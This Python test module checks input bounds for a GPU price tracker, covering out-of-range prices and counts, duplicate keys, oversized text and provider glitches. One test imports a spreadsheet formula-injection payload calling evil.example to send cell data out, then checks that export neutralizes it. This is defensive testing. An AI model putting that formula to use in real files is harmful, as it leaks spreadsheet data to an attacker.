"""Fault-matrix rows of issue 40: bad input refused before the store; answers' numbers in range.

Each row is a `Fault` of `fault_matrix.py`; `rows_for` adds this module's `FAULTS`.
The bounds themselves are `tracker/normalize/bounds.py` (a stored price) and
`tracker/answers/ranges.py` (the numbers an answer takes).
"""

from __future__ import annotations

import csv
import json
import os
from collections import Counter
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from tests.conftest import CliResult
from tests.helpers.harutil import page_json, set_page_json, shifted
from tests.reliability.fault_matrix import EARLY, Ctx, Fault

GOOD = {
    "provider": "acme",
    "region": "eu-1",
    "instance_type": "gx.8",
    "gpu_model": "H100",
    "gpu_count": "8",
    "gpu_memory_gb": "80",
    "price_model": "on_demand",
    "price": "25.50",
    "currency": "USD",
    "unit": "hour",
}


def _jsonl(ctx: Ctx, name: str, lines: list[str]) -> Path:
    path = ctx.tmp / name
    path.write_text("".join(line + "\n" for line in lines), encoding="utf-8")
    return path


def _row(**fields: Any) -> str:
    return json.dumps(GOOD | {"instance_type": "gx.4"} | fields)


def _import(ctx: Ctx, path: Path) -> CliResult:
    return ctx.cli("import", str(path), "--source", "mine")


def _runs(ctx: Ctx) -> list[dict[str, Any]]:
    return json.loads(ctx.cli("runs", "--format", "json").out)


def _refused(ctx: Ctx, path: Path, says: str, before: str) -> str:
    """One sentence naming the line, a `rejected` run, no change announced, the store as it was."""
    result = _import(ctx, path)
    assert result.code == 1, result
    assert says in result.err and result.err.count("\n") == 1 and len(result.err) < 400, result.err
    assert "Traceback" not in result.err and "internal error" not in result.err
    assert _runs(ctx)[0]["status"] == "rejected", _runs(ctx)[0]
    assert ctx.cli("prices", "--format", "json").out == before
    kinds = {c["kind"] for c in json.loads(ctx.cli("changes", "--format", "json").out)}
    assert "source_broken" not in kinds, kinds
    return result.err


def _stored(ctx: Ctx) -> str:
    """A first good import; the prices it stored (as JSON)."""
    first = _import(ctx, _jsonl(ctx, "good.jsonl", [json.dumps(GOOD)]))
    assert first.code == 0, first.err
    return ctx.cli("prices", "--format", "json").out


def _every_answer_works(ctx: Ctx, *, answered: bool = True) -> None:
    """Each listing answers (or, not `answered`, at least says why in one sentence)."""
    for command in (
        ("prices",),
        ("changes",),
        ("compare", "--gpu", "H100"),
        ("history", "gx.8"),
        ("export", "prices"),
        ("recommend", "--gpus", "8"),
    ):
        result = ctx.cli(*command)
        assert result.code == 0 or (not answered and result.err.count("\n") == 1), (command, result.err)
        assert "internal error" not in result.err and "Traceback" not in result.err, (command, result.err)


def numbers_out_of_bounds(ctx: Ctx) -> None:
    before = _stored(ctx)
    cases = [
        ({"price": "1e400"}, "line 2: price: '1E+400' is out of range"),
        ({"price": "9" * 60}, "line 2: price: '9999"),
        ({"price": "-5"}, "line 2: price: '-5' is out of range"),
        ({"price": "0"}, "line 2: price: 0 without an upfront_fee"),
        ({"price": "1e-400"}, "line 2: price: '1E-400' is out of range"),
        ({"gpu_count": "-8"}, "line 2: gpu_count: '-8' is out of range"),
        ({"gpu_count": "0"}, "line 2: gpu_count: '0' is out of range"),
        ({"gpu_count": str(10**30)}, "line 2: gpu_count: '1000000000000000000000000000000' has more than 28"),
        ({"observed_at": "9999-12-31T00:00:00Z"}, "line 2: observed_at: 9999-12-31T00:00:00+00:00 is in the future"),
    ]
    for fields, says in cases:
        _refused(ctx, _jsonl(ctx, "bad.jsonl", [json.dumps(GOOD), _row(**fields)]), says, before)
    # 9999 refused, a later file of the source still imports.
    assert _import(ctx, _jsonl(ctx, "later.jsonl", [json.dumps(GOOD), _row()])).code == 0
    _every_answer_works(ctx)


def one_value_per_key(ctx: Ctx) -> None:
    before = _stored(ctx)
    twice = json.dumps(GOOD).replace('"price": "25.50"', '"price": "25.50", "price": "-5"')
    _refused(
        ctx, _jsonl(ctx, "twice.jsonl", [json.dumps(GOOD), twice]), "line 2: the key 'price' is given twice", before
    )
    path = ctx.tmp / "twice.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        out = csv.writer(fh)
        out.writerow([*GOOD, "price"])
        out.writerow([*GOOD.values(), "-5"])
    _refused(ctx, path, "line 1: the column 'price' is named twice", before)
    two = _jsonl(ctx, "two.jsonl", [json.dumps(GOOD), json.dumps(GOOD | {"price": "26"})])
    _refused(ctx, two, "two prices for gx.8", before)


def texts_out_of_bounds(ctx: Ctx) -> None:
    # Straight to the store: the test proxy in front of PostgreSQL cuts a
    # connection idle for 5 s, as one is while 50 MB of a row are read.
    os.environ["GPU_TRACKER_DATABASE_URL"] = ctx.store.direct_url  # the test's monkeypatch restores it
    before = _stored(ctx)
    cases: list[tuple[dict[str, Any], str]] = [
        ({"region": "eu\x00-1"}, "line 2: region: 'eu\\x00-1' holds a NUL character"),
        ({"instance_type": "x" * 2**20}, "line 2: instance_type: 'xxxx"),
        ({"attrs": {"blob": "y" * 50 * 2**20}}, "line 2: attrs: 52,428,812 characters of JSON, more than 8,192"),
    ]
    for fields, says in cases:
        said = _refused(ctx, _jsonl(ctx, "bad.jsonl", [json.dumps(GOOD), _row(**fields)]), says, before)
        assert "(1,048,576 characters)" in said or "instance_type" not in fields
    assert len(ctx.cli("runs").out) < 20_000  # the refused values are never printed whole


def formula_cells_exported_inert(ctx: Ctx) -> None:
    formula = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
    assert _import(ctx, _jsonl(ctx, "f.jsonl", [json.dumps(GOOD | {"instance_type": formula})])).code == 0
    for command in (("export", "prices"), ("prices", "--format", "csv")):
        cells = [cell for row in csv.reader(ctx.cli(*command).out.splitlines()) for cell in row]
        assert "'" + formula in cells and formula not in cells, command
        assert not [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not c[1:2].isdigit())]


def _one_type(price: Any) -> Any:
    """An edit of the Azure capture: every price of one GPU type becomes `price`."""

    def edit(_: int, entry: dict[str, Any]) -> None:
        page = page_json(entry)
        for item in page["Items"]:
            if item.get("armSkuName") == "Standard_NC24ads_A100_v4":
                item["retailPrice"] = item["unitPrice"] = price
        set_page_json(entry, page)

    return edit


def provider_price_out_of_bounds(ctx: Ctx) -> None:
    def crawl(har: Path) -> CliResult:
        return ctx.cli("crawl", "azure", "-r", "westeurope", "--replay", str(har))

    assert crawl(EARLY).code == 0
    before = {
        (p["instance_type"], p["price_model"], p["term"]): p["price"]
        for p in json.loads(ctx.cli("prices", "--format", "json").out)
    }
    assert any(key[0] == "Standard_NC24ads_A100_v4" for key in before)
    for day, price in ((4, -5), (5, 1e30)):
        odd = crawl(shifted(EARLY, ctx.tmp / f"odd{day}.har", datetime(2026, 8, day, tzinfo=UTC), _one_type(price)))
        assert odd.code == 0, odd.err  # one odd item never fails the source
        said = " ".join((odd.out + odd.err).split())
        assert "Standard_NC24ads_A100_v4" in said and "skipped, its last price kept: price:" in said, said
        after = {
            (p["instance_type"], p["price_model"], p["term"]): p["price"]
            for p in json.loads(ctx.cli("prices", "--format", "json").out)
        }
        assert after == before  # the odd prices kept at their last value, nothing else moved
    kinds = Counter(c["kind"] for c in json.loads(ctx.cli("changes", "--format", "json").out))
    assert not kinds, kinds  # no drop to -5, no rise to 1e30, no removal
    _every_answer_works(ctx)


def answers_numbers_in_range(ctx: Ctx) -> None:
    from tests.web.conftest import serving

    _stored(ctx)
    cases = [
        (("recommend", "--gpus", "8", "--hours-per-month", "1e-30"), "--hours-per-month='1e-30' must be a number from"),
        (("recommend", "--gpus", "8", "--hours-per-month", "1e-400"), "--hours-per-month='1e-400' must be a number"),
        (("recommend", "--gpus", "8", "--hours-per-month", "0"), "--hours-per-month='0' must be a number from 0.1"),
        (("recommend", "--gpus", str(10**30)), "must be a number from 0.001 to 1024"),
        (("tco", "--gpu", "H100", "--hours-per-month", "1e-30"), "--hours-per-month='1e-30' must be"),
        (("compare", "--gpu", "H100", "--count", "1e-400"), "--count='1e-400' must be a number from 0.001"),
        (("recommend", "--hours-per-month", "9" * 20_000), "(20,000 characters) is not a number"),
    ]
    for args, says in cases:
        result = ctx.cli(*args)
        assert result.code == 2 and says in " ".join(result.err.split()), (args, result.err)
        assert "internal error" not in result.err and "9" * 41 not in result.err
    with serving(ctx.store.url, ctx.home) as served:
        for path in (
            "/api/recommend?gpus=8&hours_per_month=1e-400",
            "/api/recommend?gpus=8&hours_per_month=1e-30",
            "/api/recommend?gpus=8&hours_per_month=0",
            "/recommend?gpus=8&hours_per_month=1e-30",
            "/api/compare?gpu=H100&count=1e-400",
            "/api/recommend?gpus=" + "9" * 20_000,
        ):
            answer = served.get(path)
            assert answer.status_code == 400 and "9" * 41 not in answer.text, (path, answer.text[:300])
        assert served.get("/api/recommend?gpus=8&hours_per_month=0.1").status_code == 200


def a_stored_value_out_of_bounds(ctx: Ctx) -> None:
    """A store written before the bounds may hold 1e400 (SQLite did; PostgreSQL's
    index on the price as a double refuses it): it is shown, never a crash."""
    import sqlalchemy as sa

    from tests.web.conftest import serving

    _stored(ctx)
    engine = sa.create_engine(ctx.store.direct_url)
    with engine.begin() as conn:
        conn.execute(sa.text("update price_points set price = '1E+400'"))
    engine.dispose()
    _every_answer_works(ctx, answered=False)  # recommend: no price it can use, said so
    assert "1.0000E+400" in ctx.cli("prices").out
    with serving(ctx.store.url, ctx.home) as served:
        for path in ("/", "/changes", "/feeds/changes.atom", "/api/prices", "/api/compare?gpu=H100"):
            assert served.get(path).status_code == 200, path


FAULTS: list[Fault] = [
    Fault(
        "import: a price of 1e400, sixty nines, -5, 0 or 1e-400; a GPU count of -8, 0 or 10**30; observed in 9999",
        "the file refused in one sentence naming the line, the run rejected, nothing stored or announced; every "
        "listing and a later import still work",
        numbers_out_of_bounds,
    ),
    Fault(
        "import: a JSON key or a CSV column given twice; two prices for one SKU",
        "refused as bad input (rejected, no source_broken), never the last value silently",
        one_value_per_key,
    ),
    Fault(
        "import: a NUL byte, a 1 MB instance type, 50 MB of attrs",
        "refused naming the line and the field; the value quoted by its head, never printed whole",
        texts_out_of_bounds,
    ),
    Fault(
        "a CSV cell =HYPERLINK(...) exported",
        "written with a leading apostrophe in export and --format csv",
        formula_cells_exported_inert,
    ),
    Fault(
        "a provider answers -5, then 1e30, for one GPU type",
        "that item skipped with a note and its last price kept; the rest of the crawl stored; no change",
        provider_price_out_of_bounds,
    ),
    Fault(
        "recommend, tco, compare and the web asked 1e-30 or 1e-400 hours, 0 hours, 10**30 GPUs, a 20,000-digit value",
        "one sentence (a 400 on the web) quoting at most 40 characters; never an internal error",
        answers_numbers_in_range,
    ),
    Fault(
        "a store holds a price of 1e400 from before the bounds",
        "every listing, export and page answers (the price shown as 1.0000E+400), none fails",
        a_stored_value_out_of_bounds,
        ("sqlite",),
    ),
]
